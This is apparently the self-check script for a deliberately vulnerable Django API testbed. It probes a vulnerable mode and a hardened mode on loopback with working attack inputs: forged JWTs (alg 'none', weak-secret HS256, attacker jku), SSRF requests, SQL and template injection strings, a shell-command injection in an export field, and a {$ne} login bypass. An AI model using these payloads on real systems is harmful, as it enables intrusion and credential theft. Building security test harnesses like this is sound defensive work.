#!/usr/bin/env python3
"""Self-check of the Django testbed: starts each mode on free loopback ports,
probes every planted weakness (vulnerable must show it, hardened must not),
kills the process group and checks nothing is left behind.

    testbeds/django/.venv/bin/python testbeds/django/selfcheck.py [--mode vulnerable|hardened|both]

Stdlib only; talks to 127.0.0.1 only. Prints "N passed, M failed" last and
exits non-zero on any failure.
"""
import argparse
import base64
import hashlib
import hmac
import http.client
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HERE = os.path.dirname(os.path.abspath(__file__))
PY = os.path.join(HERE, ".venv", "bin", "python")
RESULTS = {"passed": 0, "failed": 0}


def check(mode, name, ok, detail=""):
    RESULTS["passed" if ok else "failed"] += 1
    print("  [%s] %-4s %s%s" % (mode[:4], "ok" if ok else "FAIL", name, "" if ok else "  -- " + detail[:300]))


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Resp:
    def __init__(self, status, headers, body):
        self.status = status
        self.headers = headers  # list of (name, value)
        self.body = body

    def header(self, name):
        name = name.lower()
        for k, v in self.headers:
            if k.lower() == name:
                return v
        return None

    def all(self, name):
        return [v for k, v in self.headers if k.lower() == name.lower()]

    @property
    def text(self):
        return self.body.decode("utf-8", "replace")

    def json(self):
        return json.loads(self.body)


def req(port, path, method="GET", headers=None, body=None, token=None):
    h = dict(headers or {})
    if token:
        h["Authorization"] = "Bearer " + token
    if body is not None and not isinstance(body, bytes):
        body = json.dumps(body).encode()
        h.setdefault("Content-Type", "application/json")
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=15)
    try:
        conn.request(method, path, body=body, headers=h)
        r = conn.getresponse()
        return Resp(r.status, r.getheaders(), r.read())
    finally:
        conn.close()


def b64u(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def forge(header, claims, key=None):
    seg = b64u(json.dumps(header, separators=(",", ":")).encode()) + "." + b64u(
        json.dumps(claims, separators=(",", ":")).encode()
    )
    if key is None:
        return seg + "."
    sig = hmac.new(key, seg.encode(), hashlib.sha256).digest()
    return seg + "." + b64u(sig)


def claims_of(token):
    p = token.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(p + "=" * (-len(p) % 4)))


class Callback:
    """Loopback listener standing in for an attacker's server."""

    KEY = b"attacker-controlled-hmac-key-0123456789"

    def __init__(self):
        self.seen = []
        outer = self

        class H(BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_GET(self):
                outer.seen.append((self.path, dict(self.headers)))
                if self.path.startswith("/jwks"):
                    body = json.dumps({"keys": [{"kty": "oct", "alg": "HS256", "k": b64u(outer.KEY)}]}).encode()
                else:
                    body = b"tollgate-callback-ok"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                length = int(self.headers.get("Content-Length") or 0)
                outer.seen.append((self.path, dict(self.headers), self.rfile.read(length)))
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def start(mode, state_dir):
    port, dport = free_port(), free_port()
    t0 = time.monotonic()
    proc = subprocess.Popen(
        [PY, os.path.join(HERE, "serve.py"), "--mode", mode, "--port", str(port),
         "--docker-port", str(dport), "--state-dir", state_dir],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
        start_new_session=True, text=True,
    )
    ready = None
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        line = proc.stdout.readline()
        if not line:
            if proc.poll() is not None:
                raise RuntimeError("serve.py exited with %s" % proc.returncode)
            continue
        if line.startswith("TESTBED READY"):
            ready = time.monotonic() - t0
            break
    if ready is None:
        raise RuntimeError("no READY line")
    # keep draining stdout so the child never blocks on a full pipe
    threading.Thread(target=lambda: [None for _ in proc.stdout], daemon=True).start()
    return proc, port, dport, ready


def stop(proc):
    pgid = proc.pid
    t0 = time.monotonic()
    try:
        os.killpg(pgid, signal.SIGTERM)
    except ProcessLookupError:
        pass
    try:
        proc.wait(timeout=10)
    except subprocess.TimeoutExpired:
        os.killpg(pgid, signal.SIGKILL)
        proc.wait()
    # wait for the whole group (gunicorn worker) to disappear
    while time.monotonic() - t0 < 10:
        try:
            os.killpg(pgid, 0)
        except ProcessLookupError:
            return time.monotonic() - t0, True
        time.sleep(0.05)
    os.killpg(pgid, signal.SIGKILL)
    return time.monotonic() - t0, False


def run_mode(mode):
    V = mode == "vulnerable"
    state = tempfile.mkdtemp(prefix="tollgate-django-%s-" % mode)
    proc, port, dport, ready = start(mode, state)
    print("%s: port %d, docker port %d, state %s, ready after %.2fs" % (mode, port, dport, state, ready))
    cb = Callback()
    try:
        tok = {n: open(os.path.join(state, n + ".token")).read() for n in (
            "alice", "bob", "admin", "alice_readonly", "alice_elevated", "alice_expired", "alice_wrong_aud")}
        for n in ("alice", "bob", "admin"):
            check(mode, "%s.token has no newline" % n, not tok[n].endswith("\n"))
            check(mode, "%s.token -> 200 on /api/v2/me/" % n, req(port, "/api/v2/me/", token=tok[n]).status == 200)
        ident = json.load(open(os.path.join(state, "identities.json")))
        bob_order = ident["identities"]["bob"]["order_ids"][0]

        # --- LEAK-002 technical 500 page
        for path, t in (("/api/v2/products/abc/", None), ("/api/v2/products/?page=abc", None),
                        ("/api/v2/orders/?page=abc", tok["alice"]), ("/api/v2/orders/abc/", tok["alice"])):
            r = req(port, path, token=t, headers={"Accept": "text/html"})
            if V:
                check(mode, "500 page at %s shows DEPLOY_GITHUB_PAT + DOCKER_HOST" % path,
                      r.status == 500 and "ghp_TollgateTestbedFAKEpat" in r.text
                      and ("tcp://127.0.0.1:%d" % dport) in r.text, "%s" % r.status)
            else:
                check(mode, "%s is a terse 4xx" % path, r.status in (400, 404) and "ghp_" not in r.text
                      and "Traceback" not in r.text, "%s %s" % (r.status, r.text[:100]))
        # --- LEAK-003 debug 404
        r = req(port, "/definitely-not-here/", headers={"Accept": "text/html"})
        listed = "api/v2/orders/" in r.text and "URLconf" in r.text
        check(mode, "debug 404 lists URL patterns" if V else "404 lists nothing", r.status == 404 and listed == V)
        # --- LEAK-004 / LEAK-005
        r = req(port, "/.env")
        check(mode, "/.env served" if V else "/.env absent",
              (r.status == 200 and "DJANGO_SECRET_KEY=django-insecure-" in r.text) if V else r.status == 404)
        r = req(port, "/logs/access.log")
        check(mode, "/logs/access.log with bearer tokens" if V else "access log absent",
              (r.status == 200 and "Authorization: Bearer eyJ" in r.text) if V else r.status == 404)
        # --- AUTH-001 / PROP-001 / LEAK-006 users list
        r = req(port, "/api/v2/users/")
        if V:
            check(mode, "anonymous /api/v2/users/ leaks hashes, api keys, tokens",
                  r.status == 200 and '"password"' in r.text and "tgk_live_" in r.text and '"access_token":"eyJ' in r.text)
        else:
            check(mode, "anonymous /api/v2/users/ -> 401", r.status == 401)
            r = req(port, "/api/v2/users/", token=tok["admin"])
            check(mode, "admin /api/v2/users/ has no secrets", r.status == 200 and "password" not in r.text
                  and "api_key" not in r.text and "eyJ" not in r.text)
        # --- AUTH-003 token in query string
        r = req(port, "/api/v2/me/?access_token=" + tok["alice"])
        check(mode, "?access_token= accepted" if V else "?access_token= ignored", (r.status == 200) == V)
        # --- AUTH-005 echo
        r = req(port, "/api/v2/debug/headers/", token=tok["alice"])
        check(mode, "header echo reflects Authorization" if V else "no header echo",
              (r.status == 200 and tok["alice"] in r.text) if V else r.status == 404)
        # --- AUTH-010 alg none (any case)
        for alg in ("none", "None", "NONE", "nOnE"):
            t = forge({"alg": alg, "typ": "JWT"}, {"sub": "2", "role": "user"})
            r = req(port, "/api/v2/me/", token=t)
            check(mode, "alg=%s accepted" % alg if V else "alg=%s rejected" % alg, (r.status == 200) == V, str(r.status))
        # --- AUTH-011 weak secret: a token signed with "secret" and full claims
        c = claims_of(tok["alice"])
        t = forge({"alg": "HS256", "typ": "JWT"}, dict(c, jti="forged"), b"secret")
        r = req(port, "/api/v2/me/", token=t)
        check(mode, "HS256/'secret' forged token %s" % ("accepted" if V else "rejected"), (r.status == 200) == V)
        # --- AUTH-012 / AUTH-013
        r = req(port, "/api/v2/me/", token=tok["alice_expired"])
        check(mode, "expired token %s" % ("accepted" if V else "rejected"), (r.status == 200) == V)
        r = req(port, "/api/v2/me/", token=tok["alice_wrong_aud"])
        check(mode, "wrong-aud token %s" % ("accepted" if V else "rejected"), (r.status == 200) == V)
        # --- AUTH-014 role claim / scope
        r = req(port, "/api/v2/admin/settings/", token=tok["alice_elevated"])
        check(mode, "role=admin claim of non-staff alice %s" % ("trusted" if V else "refused"),
              (r.status == 200) if V else r.status == 403, str(r.status))
        r = req(port, "/api/v2/admin/settings/", token=tok["alice"])
        check(mode, "plain alice refused on admin settings", r.status == 403)
        r = req(port, "/api/v2/orders/", "POST", token=tok["alice_readonly"],
                body={"product": 1, "quantity": 1, "shipping_address": "1 Test St"})
        check(mode, "read-only scope %s POST /orders/" % ("can" if V else "cannot"),
              (r.status == 201) if V else r.status == 403, str(r.status))
        # --- AUTH-002 / AUTH-004 legacy v1
        r = req(port, "/api/v1/orders/", token="not-a-jwt-at-all")
        check(mode, "v1 accepts any bearer string" if V else "v1 gone", (r.status == 200) if V else r.status == 404)
        r = req(port, "/api/v1/orders/")
        check(mode, "v1 401 without WWW-Authenticate" if V else "v1 gone",
              (r.status == 401 and r.header("WWW-Authenticate") is None) if V else r.status == 404)
        r = req(port, "/api/v1/users/alice/")
        check(mode, "v1 regex user route leaks alice's secrets anonymously" if V else "v1 user route gone",
              (r.status == 200 and "access_token" in r.text) if V else r.status == 404, str(r.status))
        r = req(port, "/api/v2/me/")
        check(mode, "v2 401 carries WWW-Authenticate", r.status == 401 and (r.header("WWW-Authenticate") or "").startswith("Bearer"))
        r = req(port, "/api/v2/me/", token="not-a-jwt-at-all")
        check(mode, "v2 rejects garbage bearer", r.status == 401)
        # --- SSRF-001/002/004, CONT-002
        n0 = len(cb.seen)
        r = req(port, "/api/v2/fetch/?url=http://127.0.0.1:%d/ssrf-probe" % cb.port, token=tok["alice"])
        if V:
            check(mode, "fetch reflects callback body", r.status == 200 and "tollgate-callback-ok" in r.text)
            auth = cb.seen[-1][1].get("Authorization", "") if len(cb.seen) > n0 else ""
            check(mode, "fetch forwards its own bearer to the callback", auth.startswith("Bearer eyJ") and tok["alice"] not in auth)
            r = req(port, "/api/v2/fetch/?url=http://127.0.0.1:1/unreachable")
            check(mode, "fetch error body contains Authorization header", r.status == 502 and '"Authorization":"Bearer eyJ' in r.text)
            r = req(port, "/api/v2/fetch/?url=http://127.0.0.1:%d/version" % dport)
            check(mode, "fetch reaches Docker /version", r.status == 200 and '"ApiVersion":"1.43"' in r.text)
            r = req(port, "/api/v2/fetch/?url=http://169.254.169.254/latest/meta-data/")
            check(mode, "non-loopback destination never contacted", r.status == 502 and "not contacted" in r.text)
        else:
            check(mode, "fetch refuses non-allow-listed host", r.status == 400 and len(cb.seen) == n0)
            r = req(port, "/api/v2/fetch/?url=http://127.0.0.1:%d/ssrf-probe" % cb.port)
            check(mode, "anonymous fetch -> 401", r.status == 401 and len(cb.seen) == n0)
        # --- SSRF-003 jku
        n0 = len(cb.seen)
        t = forge({"alg": "HS256", "typ": "JWT", "jku": "http://127.0.0.1:%d/jwks.json" % cb.port},
                  {"sub": "2", "role": "user"}, Callback.KEY)
        r = req(port, "/api/v2/me/", token=t)
        fetched = any(p.startswith("/jwks") for p, _ in cb.seen[n0:])
        check(mode, "jku fetched and its key trusted" if V else "jku ignored",
              (fetched and r.status == 200) if V else (not fetched and r.status == 401), "%s fetched=%s" % (r.status, fetched))
        # --- CONT-001 docker API
        try:
            c = http.client.HTTPConnection("127.0.0.1", dport, timeout=3)
            c.request("GET", "/version")
            dr = c.getresponse()
            dbody = dr.read().decode()
            docker_ok = dr.status == 200 and '"ApiVersion":"1.43"' in dbody and dr.getheader("Server") == "Docker/24.0.7 (linux)"
            c.close()
            c = http.client.HTTPConnection("127.0.0.1", dport, timeout=3)
            c.request("GET", "/_ping")
            pr = c.getresponse()
            docker_ok = docker_ok and pr.read() == b"OK" and pr.getheader("Api-Version") == "1.43"
            c.close()
        except OSError:
            docker_ok = False
        check(mode, "fake Docker API on --docker-port" if V else "no Docker API in hardened", docker_ok == V)
        # --- BOLA / BFLA
        r = req(port, "/api/v2/orders/%d/" % bob_order, token=tok["alice"])
        check(mode, "alice reads bob's order" if V else "alice cannot read bob's order", (r.status == 200) == V, str(r.status))
        r = req(port, "/api/v2/admin/users/", token=tok["alice"])
        check(mode, "alice reaches admin users" if V else "alice refused on admin users", (r.status == 200) == V)
        r = req(port, "/api/v2/admin/users/", token=tok["admin"])
        check(mode, "admin reaches admin users", r.status == 200)
        # --- headers / CORS / cookies / server
        r = req(port, "/api/v2/me/", token=tok["alice"], headers={"Origin": "https://evil.example"})
        acao = r.header("Access-Control-Allow-Origin")
        check(mode, "CORS reflects origin with credentials" if V else "no CORS for foreign origin",
              (acao == "https://evil.example" and r.header("Access-Control-Allow-Credentials") == "true") if V else acao is None)
        check(mode, "X-Content-Type-Options %s" % ("missing" if V else "nosniff"),
              (r.header("X-Content-Type-Options") is None) if V else r.header("X-Content-Type-Options") == "nosniff")
        check(mode, "X-Frame-Options %s" % ("missing" if V else "DENY"),
              (r.header("X-Frame-Options") is None) if V else r.header("X-Frame-Options") == "DENY")
        cc = r.header("Cache-Control") or ""
        vary = ",".join(r.all("Vary"))
        check(mode, "authenticated response %s" % ("cacheable" if V else "no-store + Vary: Authorization"),
              ("no-store" not in cc) if V else ("no-store" in cc and "Authorization" in vary))
        server = r.header("Server") or ""
        check(mode, "Server header %s" % ("discloses versions" if V else "has no version"),
              ("CPython/3" in server) if V else (server == "gunicorn"), server)
        r = req(port, "/")
        cookie = " ".join(r.all("Set-Cookie")).lower()
        check(mode, "cookie on / %s" % ("lacks Secure/HttpOnly/SameSite" if V else "has Secure/HttpOnly/SameSite"),
              ("sessionid=" in cookie) and (("secure" not in cookie and "httponly" not in cookie and "samesite" not in cookie) if V
                                            else ("secure" in cookie and "httponly" in cookie and "samesite=strict" in cookie)), cookie)
        r = req(port, "/api/v2/orders/", "OPTIONS")
        allow = (r.header("Allow") or "") + (r.header("Access-Control-Allow-Methods") or "")
        check(mode, "anonymous OPTIONS advertises DELETE" if V else "anonymous OPTIONS advertises nothing",
              ("DELETE" in allow) == V, "%s %s" % (r.status, allow))
        # --- MISC-008 browsable API
        r = req(port, "/api/v2/products/", headers={"Accept": "text/html"})
        check(mode, "browsable API %s" % ("served" if V else "not served"),
              (r.status == 200 and "Django REST framework" in r.text) if V else "Django REST framework" not in r.text)
        # --- RATE-001 / RATE-002
        r = req(port, "/api/v2/orders/?page_size=10000", token=tok["alice"])
        d = r.json()
        check(mode, "page_size=10000 %s" % ("unbounded" if V else "capped at 100"),
              (len(d["results"]) == d["count"] and d["count"] > 100) if V else len(d["results"]) == 100,
              "%s of %s" % (len(d["results"]), d["count"]))
        has_rl = r.header("X-RateLimit-Limit") is not None
        check(mode, "rate limit headers %s" % ("absent" if V else "present"), has_rl != V)
        # --- INV-001 / INV-002 / schema
        r = req(port, "/api/schema/openapi.json")
        doc = r.json()
        check(mode, "OpenAPI documents only /api/v2", r.status == 200 and doc["openapi"].startswith("3.0")
              and all(p.startswith("/api/v2/") for p in doc["paths"]) and "bearerAuth" in doc["components"]["securitySchemes"])
        r = req(port, "/api/v1/users/")
        check(mode, "/api/v1 live" if V else "/api/v1 gone", (r.status == 200) == V)
        r = req(port, "/api/v2/debug/crash/")
        check(mode, "undocumented /api/v2/debug/crash/ live" if V else "debug crash gone", (r.status == 500) if V else r.status == 404)
        # --- INJ-001 / INJ-002 / INJ-004 (issue 14)
        q = urllib.parse.quote
        base = req(port, "/api/v2/products/search/?q=Kettle")
        quote = req(port, "/api/v2/products/search/?q=" + q("Kettle'"))
        balanced = req(port, "/api/v2/products/search/?q=" + q("Kettle''"))
        check(mode, "search quote %s" % ("gives a SQLite error" if V else "is just a character"),
              (quote.status == 500 and "unrecognized token" in quote.text and balanced.status == 200) if V
              else (quote.status == 200 and "error" not in quote.text), "%s %s" % (quote.status, quote.text))
        check(mode, "search baseline answers 200", base.status == 200, str(base.status))
        found = req(port, "/api/v2/products/by-sku/?sku=SKU-00001")
        t = req(port, "/api/v2/products/by-sku/?sku=" + q("SKU-00001' AND '1'='1"))
        f = req(port, "/api/v2/products/by-sku/?sku=" + q("SKU-00001' AND '1'='2"))
        check(mode, "by-sku condition %s" % ("decides" if V else "is part of the SKU"),
              found.status == 200 and ((t.status == 200 and t.text == found.text and f.status == 404) if V
                                       else (t.status == 404 and f.status == 404)),
              "%s %s %s" % (found.status, t.status, f.status))
        g = req(port, "/api/v2/greeting/?name=" + q("Al{% widthratio 7 1 191 %}"))
        check(mode, "greeting %s" % ("evaluates template tags" if V else "prints the name as text"),
              ("Hello Al1337!" in g.text) if V else ("widthratio" in g.text and "1337" not in g.text),
              "%s %s" % (g.status, g.text))
        # --- issue 14: BFLA-002, INJ-003/005/006, SSRF-005/006, AUTH-018
        r = req(port, "/api/v2/coupons/", "POST", body={"code": "SELFCHECK", "percent_off": 100}, token=tok["alice"])
        check(mode, "alice %s a coupon" % ("creates" if V else "cannot create"), r.status == (201 if V else 403), str(r.status))
        made = req(port, "/api/v2/coupons/", "POST", body={"code": "STAFF10", "percent_off": 10}, token=tok["admin"])
        cid = made.json().get("id") if made.status == 201 else 0
        r = req(port, "/api/v2/coupons/%s/" % cid, "PATCH", body={"description": "alice was here"}, token=tok["alice"])
        back = req(port, "/api/v2/coupons/%s/" % cid, token=tok["admin"])
        check(mode, "alice %s the staff coupon" % ("changes" if V else "cannot change"),
              made.status == 201 and (("alice was here" in back.text) == V) and r.status == (200 if V else 403),
              "%s %s %s" % (made.status, r.status, back.text))
        r = req(port, "/api/v2/coupons/%s/" % cid, "DELETE", token=tok["alice"])
        back = req(port, "/api/v2/coupons/%s/" % cid, token=tok["admin"])
        check(mode, "alice %s the staff coupon" % ("deletes" if V else "cannot delete"),
              (r.status, back.status) == ((204, 404) if V else (403, 200)), "%s %s" % (r.status, back.status))
        r = req(port, "/api/v2/orders/export/", "POST", body={"since": '";echo tg5e1f\'\'c4;"'}, token=tok["alice"])
        check(mode, "order export since %s" % ("runs in a shell" if V else "is an argument"),
              ("tg5e1fc4" in r.text) == V and r.status == 400, "%s %s" % (r.status, r.text))
        r = req(port, "/api/v2/orders/export/", "POST", body={"since": "2000-01-01"}, token=tok["alice"])
        check(mode, "order export baseline lists alice's orders", r.status == 200 and r.json()["count"] >= 150, str(r.status))
        started = time.monotonic()
        r = req(port, "/api/v2/wishlists/check-slug/", "POST", body={"slug": "a" * 23 + "!"}, token=tok["alice"])
        slow = time.monotonic() - started
        check(mode, "slug near-miss took %.2fs (%s)" % (slow, "backtracking" if V else "linear"),
              r.status == 200 and (slow > 0.15 if V else slow < 0.15), r.text)
        r = req(port, "/api/v2/wishlists/check-slug/", "POST", body={"slug": "a" * 25}, token=tok["alice"])
        check(mode, "slug longer than 24 refused", r.status == 200 and r.json()["valid"] is False, r.text)
        good = {"email": "orders@acme-supplies.test", "password": "Acme-Partner-2024!"}
        r = req(port, "/api/v2/partners/session/", "POST", body=good)
        check(mode, "partner signs in with the right password", r.status == 200 and "token" in r.json(), str(r.status))
        r = req(port, "/api/v2/partners/session/", "POST", body=dict(good, password="wrong"))
        check(mode, "partner wrong password -> 401", r.status == 401, str(r.status))
        r = req(port, "/api/v2/partners/session/", "POST", body=dict(good, password={"$ne": "x"}))
        check(mode, "partner password {$ne} %s" % ("signs in" if V else "-> 400"),
              (r.status == 200 and "token" in r.text) if V else r.status == 400, str(r.status))
        n0 = len(cb.seen)
        r = req(port, "/api/v2/me/avatar/", "POST", token=tok["alice"],
                headers={"Content-Type": "application/x-www-form-urlencoded"},
                body=urllib.parse.urlencode({"image_url": "http://127.0.0.1:%d/avatar" % cb.port}).encode())
        encoded = base64.b64encode(b"tollgate-callback-ok").decode()
        check(mode, "avatar import %s" % ("returns the fetched body base64-encoded" if V else "refuses a foreign host"),
              (r.status == 201 and encoded in r.text) if V else (r.status == 400 and len(cb.seen) == n0), str(r.status))
        n0 = len(cb.seen)
        r = req(port, "/api/v2/hooks/", "POST", token=tok["alice"],
                body={"event": "order.created", "target": "http://127.0.0.1:%d/hook" % cb.port})
        pinged = [x for x in cb.seen[n0:] if x[0] == "/hook"]
        check(mode, "hook registration %s" % ("pings the target" if V else "refuses a foreign target, no ping"),
              (r.status == 201 and len(pinged) == 1) if V else (r.status == 400 and not pinged), str(r.status))
        r = req(port, "/api/v2/auth/2fa/", "POST", body={"channel": "sms"}, token=tok["alice"])
        digits = r.json().get("digits") if r.status == 202 else None
        check(mode, "2fa code has %s digits" % (4 if V else 6), digits == (4 if V else 6), str(r.status))
        codes = []
        for i in range(6):
            wrong = "%0*d" % (digits or 4, (10 ** (digits or 4)) - 1 - i)
            codes.append(req(port, "/api/v2/auth/2fa/verify/", "POST", body={"otp": wrong}, token=tok["alice"]).status)
        check(mode, "6 wrong 2fa codes %s" % ("all 400" if V else "-> 429 at the fifth"),
              codes == ([400] * 6 if V else [400, 400, 400, 400, 429, 400]), str(codes))
        # --- no TRACE echo
        r = req(port, "/", "TRACE")
        check(mode, "TRACE not echoed", "TRACE / HTTP" not in r.text and r.status != 200, str(r.status))
    finally:
        cb.close()
        took, clean = stop(proc)
        check(mode, "process group gone after SIGTERM (%.2fs)" % took, clean)
        left = subprocess.run(["pgrep", "-f", state], capture_output=True, text=True).stdout.strip()
        check(mode, "no process left referring to the state dir", left == "", left)
    return ready


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--mode", choices=("vulnerable", "hardened", "both"), default="both")
    args = ap.parse_args()
    modes = ["vulnerable", "hardened"] if args.mode == "both" else [args.mode]
    times = {}
    for m in modes:
        times[m] = run_mode(m)
    print("startup: " + ", ".join("%s %.2fs" % kv for kv in times.items()))
    print("%d passed, %d failed" % (RESULTS["passed"], RESULTS["failed"]))
    sys.exit(1 if RESULTS["failed"] else 0)


if __name__ == "__main__":
    main()
